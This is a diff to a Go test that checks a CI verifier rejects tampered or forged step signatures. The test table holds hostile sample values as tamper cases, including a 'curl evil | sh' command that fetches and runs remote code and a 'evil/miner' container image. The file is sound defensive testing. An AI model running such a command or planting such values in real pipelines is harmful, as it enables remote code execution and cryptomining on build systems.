@@ -80,26 +80,29 @@ func TestStepSignatureRefuses(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
+	// want is text because the message is the contract: the operator reads
+	// what changed, and docs/vendor-onboarding.md quotes it.
 	tests := []struct {
 		name   string
 		token  string
 		change func(*StepClaim)
+		kind   error
 		want   string
 	}{
-		{"command", tok, func(c *StepClaim) { c.Command = []string{"sh", "-c", "curl evil | sh"} }, "the command"},
-		{"image", tok, func(c *StepClaim) { c.Plugin.Image = "evil/miner:latest" }, "plugin's image"},
-		{"cpus", tok, func(c *StepClaim) { c.Plugin.CPUs = 64 }, "plugin's cpus"},
-		{"network", tok, func(c *StepClaim) { c.Plugin.Network = "host" }, "plugin's network"},
-		{"extra plugin", tok, func(c *StepClaim) { c.Plugins = append(c.Plugins, "docker") }, "the plugins"},
-		{"env changed", tok, func(c *StepClaim) { c.Env["KERNELBOT_RUN_ID"] = "other" }, "step env KERNELBOT_RUN_ID"},
-		{"env added", tok, func(c *StepClaim) { c.Env["KBGEN_NOISE_POLICY"] = "x" }, "step env KBGEN_NOISE_POLICY"},
-		{"env removed", tok, func(c *StepClaim) { delete(c.Env, "KERNELBOT_RUN_ID") }, "step env KERNELBOT_RUN_ID"},
-		{"payload", tok, func(c *StepClaim) { c.PayloadSHA256 = strings.Repeat("cd", 32) }, "the payload"},
-		{"queue", tok, func(c *StepClaim) { c.Queue = "amd-mi300" }, "the queue"},
-		{"missing", "", func(*StepClaim) {}, "carries no KBGEN_STEP_SIGNATURE"},
-		{"wrong key", forged, func(*StepClaim) {}, "does not verify"},
-		{"garbage", "not.a.jws", func(*StepClaim) {}, "does not verify"},
-		{"body swapped", swapBody(tok, bigTok), func(c *StepClaim) { c.Plugin.CPUs = 64 }, "does not verify"},
+		{"command", tok, func(c *StepClaim) { c.Command = []string{"sh", "-c", "curl evil | sh"} }, ErrChanged, "the command"},
+		{"image", tok, func(c *StepClaim) { c.Plugin.Image = "evil/miner:latest" }, ErrChanged, "plugin's image"},
+		{"cpus", tok, func(c *StepClaim) { c.Plugin.CPUs = 64 }, ErrChanged, "plugin's cpus"},
+		{"network", tok, func(c *StepClaim) { c.Plugin.Network = "host" }, ErrChanged, "plugin's network"},
+		{"extra plugin", tok, func(c *StepClaim) { c.Plugins = append(c.Plugins, "docker") }, ErrChanged, "the plugins"},
+		{"env changed", tok, func(c *StepClaim) { c.Env["KERNELBOT_RUN_ID"] = "other" }, ErrChanged, "step env KERNELBOT_RUN_ID"},
+		{"env added", tok, func(c *StepClaim) { c.Env["KBGEN_NOISE_POLICY"] = "x" }, ErrChanged, "step env KBGEN_NOISE_POLICY"},
+		{"env removed", tok, func(c *StepClaim) { delete(c.Env, "KERNELBOT_RUN_ID") }, ErrChanged, "step env KERNELBOT_RUN_ID"},
+		{"payload", tok, func(c *StepClaim) { c.PayloadSHA256 = strings.Repeat("cd", 32) }, ErrChanged, "the payload"},
+		{"queue", tok, func(c *StepClaim) { c.Queue = "amd-mi300" }, ErrChanged, "the queue"},
+		{"missing", "", func(*StepClaim) {}, ErrUnsigned, "carries no KBGEN_STEP_SIGNATURE"},
+		{"wrong key", forged, func(*StepClaim) {}, ErrBadSignature, "does not verify"},
+		{"garbage", "not.a.jws", func(*StepClaim) {}, ErrBadSignature, "does not verify"},
+		{"body swapped", swapBody(tok, bigTok), func(c *StepClaim) { c.Plugin.CPUs = 64 }, ErrBadSignature, "does not verify"},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -108,8 +111,8 @@ func TestStepSignatureRefuses(t *testing.T) {
 			tt.change(&run)
 			err := VerifyStep(tt.token, pub, run)
 			var se *StepSignatureError
-			if !errors.As(err, &se) {
-				t.Fatalf("err = %v, want a *StepSignatureError", err)
+			if !errors.As(err, &se) || !errors.Is(err, tt.kind) {
+				t.Fatalf("err = %v, want a *StepSignatureError of kind %v", err, tt.kind)
 			}
 			if !strings.Contains(err.Error(), tt.want) {
 				t.Errorf("err = %q, want it to name %q", err, tt.want)
